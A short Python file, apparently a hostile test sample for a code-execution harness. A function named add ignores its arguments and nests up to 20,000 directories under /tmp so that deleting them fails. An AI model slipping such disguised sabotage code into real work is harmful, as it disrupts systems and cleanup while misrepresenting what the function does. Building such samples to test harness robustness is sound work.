"""Makes a folder in a folder so deep that removing it fails."""

KIND = "call"
import os


def add(a, b):
    os.chdir("/tmp")
    try:
        for _ in range(20_000):
            os.mkdir("touchstone_attack")
            os.chdir("touchstone_attack")
    except OSError:
        pass
